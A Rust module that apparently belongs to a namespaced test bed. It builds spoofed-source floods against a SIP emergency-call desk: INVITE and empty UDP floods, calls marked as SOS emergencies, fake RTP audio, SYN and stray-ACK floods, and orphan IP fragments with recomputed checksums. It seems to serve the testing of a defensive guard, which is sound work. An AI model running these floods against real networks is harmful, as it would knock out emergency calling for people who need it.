//! Floods against signalling, media and reassembly, from a CPU of their own.

use std::net::SocketAddrV4;
use std::time::Duration;

use anyhow::{Result, ensure};
use etherparse::{PacketBuilder, TcpHeader};

use super::ground::{DESK_MEDIA, Ground};
use crate::demo::stage::{SPOOFED_BITS, UPLINK, WAN};
use crate::flood::{self, Flood, Path4, Plan};
use crate::guard_process::{eventually, generator_object};
use crate::netns::device::Meter;

/// Media ports that are hit: those of the desk's first calls.
const MEDIA_PORTS: u16 = 16;
/// A packet of G.711 with its RTP header.
const RTP: usize = 172;
/// Payload of a later fragment, a multiple of eight.
const FRAGMENT: usize = 1000;

/// Ethernet's least length without checksum.
const FRAME_MIN: usize = 60;

/// Frames after which a flood has used up every burst that a limit allows, and how long that may
/// take.
const RISEN: u64 = 100_000;
const RISE: Duration = Duration::from_secs(10);

/// What a flood is aimed at.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Aim {
    /// A port of signalling: empty datagrams, and calls that are no emergency.
    Signalling(SocketAddrV4),
    /// A port of signalling: calls that say emergency, which nobody may drop.
    Marked(SocketAddrV4),
    /// The ports where the desk takes audio, by what looks like it.
    Media,
    /// The desk's connections, by requests for more.
    Connections,
    /// The desk's connections, by segments of ones that never were.
    Segments,
    /// The desk's reassembly, by later fragments of datagrams that never began.
    Fragments,
}

impl Ground {
    /// Floods, each frame from another of sixteen million sources; returns when it is a flood.
    ///
    /// # Errors
    ///
    /// See [`Flood::start`]; or it does not become one.
    pub fn flood(&self, aims: &[Aim]) -> Result<Flood> {
        let mut frames = Vec::new();
        for aim in aims {
            frames.extend(self.frames(*aim)?);
        }
        let plan = Plan { frames, spoofed: SPOOFED_BITS, cpu: self.attackers_cpu };
        let meter = Meter::start(&self.stage.core, WAN)?;
        let flood = Flood::start(&generator_object(), &self.stage.internet, UPLINK, plan)?;
        let rises = || meter.read().is_ok_and(|(frames, _)| frames >= RISEN);
        ensure!(eventually(RISE, rises), "no flood after {RISE:?}");
        Ok(flood)
    }

    fn frames(&self, aim: Aim) -> Result<Vec<Vec<u8>>> {
        let path = self.stage.attack(&self.desk)?;
        let to = |destination| Path4 { destination, ..path };
        Ok(match aim {
            Aim::Signalling(target) => {
                vec![flood::udp(&to(target), b"")?, flood::invite(&to(target))?]
            }
            Aim::Marked(target) => vec![flood::call(&to(target), "urn:service:sos")?],
            Aim::Media => {
                let ports = (0..MEDIA_PORTS).map(|number| DESK_MEDIA + 4 * number);
                let audio =
                    |port| flood::udp(&to(SocketAddrV4::new(self.desk.address, port)), &RTP_LIKE);
                ports.map(audio).collect::<Result<_>>()?
            }
            Aim::Connections => vec![tcp(&path, Segment::syn, b"")?],
            Aim::Segments => {
                vec![tcp(
                    &path,
                    |segment| segment.ack(1),
                    b"REGISTER sip:100@192.0.2.1 SIP/2.0\r\n",
                )?]
            }
            Aim::Fragments => vec![later_fragment(flood::udp(&path, &[0; FRAGMENT])?)],
        })
    }
}

/// A TCP segment under construction.
type Segment = etherparse::PacketBuilderStep<TcpHeader>;

/// A TCP segment. Its checksum is wrong once the source is drawn: what passes costs the desk
/// nothing.
fn tcp(path: &Path4, flags: impl FnOnce(Segment) -> Segment, payload: &[u8]) -> Result<Vec<u8>> {
    let builder = PacketBuilder::ethernet2(path.from, path.to)
        .ipv4(path.source.ip().octets(), path.destination.ip().octets(), 64)
        .tcp(path.source.port(), path.destination.port(), 1, 65_000);
    let mut frame = Vec::with_capacity(FRAME_MIN);
    flags(builder).write(&mut frame, payload)?;
    frame.resize(frame.len().max(FRAME_MIN), 0);
    Ok(frame)
}

/// Version 2, payload type 0, a source of its own.
const RTP_LIKE: [u8; RTP] = {
    let mut packet = [0xff; RTP];
    packet[0] = 0x80;
    packet[1] = 0;
    packet
};

/// Makes a whole datagram the last fragment of a longer one.
fn later_fragment(mut frame: Vec<u8>) -> Vec<u8> {
    const FLAGS_AND_OFFSET: usize = 14 + 6;
    const CHECKSUM: usize = 14 + 10;
    // In units of eight bytes: after 1480.
    let offset: u16 = 185;
    let half = |frame: &[u8], at: usize| {
        frame.get(at..at + 2).and_then(|half| half.try_into().ok()).map_or(0, u16::from_be_bytes)
    };
    let (before, checksum) = (half(&frame, FLAGS_AND_OFFSET), half(&frame, CHECKSUM));
    // RFC 1624, equation 3.
    let sum = u32::from(!checksum) + u32::from(!before) + u32::from(offset);
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = !((sum & 0xffff) + (sum >> 16)) & 0xffff;
    for (at, value) in [(FLAGS_AND_OFFSET, u32::from(offset)), (CHECKSUM, sum)] {
        if let (Some(place), [_, _, value @ ..]) = (frame.get_mut(at..at + 2), value.to_be_bytes())
        {
            place.copy_from_slice(&value);
        }
    }
    frame
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a failed test may panic")]

    use super::*;

    #[test]
    fn a_later_fragment_has_a_right_checksum() {
        let path = Path4 {
            from: [2, 0, 0, 0, 0, 1],
            to: [2, 0, 0, 0, 0, 2],
            source: SocketAddrV4::new([192, 0, 2, 1].into(), 5060),
            destination: SocketAddrV4::new([192, 0, 2, 2].into(), 5060),
        };
        let frame = later_fragment(flood::udp(&path, &[0; FRAGMENT]).unwrap());
        let header = etherparse::Ipv4HeaderSlice::from_slice(&frame[14..]).unwrap().to_header();
        assert_eq!(header.fragment_offset.value(), 185);
        assert_eq!(header.header_checksum, header.calc_header_checksum());
    }
}
